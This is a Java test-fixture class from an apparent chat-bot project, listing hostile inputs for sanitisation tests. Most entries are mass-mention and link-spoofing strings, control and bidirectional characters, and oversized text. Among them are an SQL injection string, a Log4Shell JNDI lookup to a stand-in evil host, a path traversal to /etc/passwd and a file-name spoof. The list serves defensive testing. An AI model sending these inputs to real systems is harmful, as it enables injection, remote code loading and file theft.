package dev.waymark.bots.chat;

import java.util.List;

/// What people, files and other programs may put where a few harmless words are expected.
public final class Hostile {
  private Hostile() {}

  public static List<String> texts() {
    return List.of(
        "<!channel>",
        "<!here> now",
        "<!everyone|nothing>",
        "<!subteam^S012ABC|@leads>",
        "<@U012ABC>",
        "<@W012ABC|anna>",
        "<#C012ABC|general>",
        "@channel @here @everyone",
        "<http://evil.test|https://good.test>",
        "<mailto:a@evil.test|write>",
        "https://evil.test/?a=1&b=2",
        "[good](http://evil.test)",
        "<!date^1392734382^{date}|soon>",
        "&lt;!channel&gt;",
        "&amp;lt;!channel&amp;gt;",
        "&#60;!channel&#62;",
        "a & b && c &",
        "< > << >> <>",
        "*bold* _italic_ ~struck~ `code`",
        "```\nblock\n```",
        "`` ` ``` ````",
        "> quoted\n> again",
        "* * *\n- - -",
        ":boom: :+1: ::",
        "\u202Egnp.exe\u202C",
        "\u2066isolated\u2069 \u200Fright",
        "\u0000\u0001\u0007\b\u001B[31mred\u001B[0m",
        "\u001B]8;;http://evil.test\u0007link\u001B]8;;\u0007",
        "tab\tline\nreturn\rend",
        "\u2028line\u2029paragraph",
        "\uFEFFbom\uFFFE\uFFFF",
        "\uD83D alone \uDE00",
        "🚀".repeat(1_500),
        "x" + "🚀".repeat(1_499),
        "👩‍👩‍👧‍👦 family 🇩🇪",
        "e\u0301\u0301\u0301\u0301\u0301 zalgo",
        "W".repeat(1_900),
        "&".repeat(1_900),
        "<".repeat(1_900),
        "'; DROP TABLE items; --",
        "${jndi:ldap://evil.test/a} %s %n {}",
        "../../etc/passwd \\\\share\\x",
        "{\"type\":\"section\"} \"quotes\" 'single'",
        "c|done WM-1|0|list",
        "   ",
        "\u200B\u200B\u200B",
        "****",
        "<|>|<",
        "ﷺ ༼ つ ◕_◕ ༽つ ＜！channel＞");
  }
}
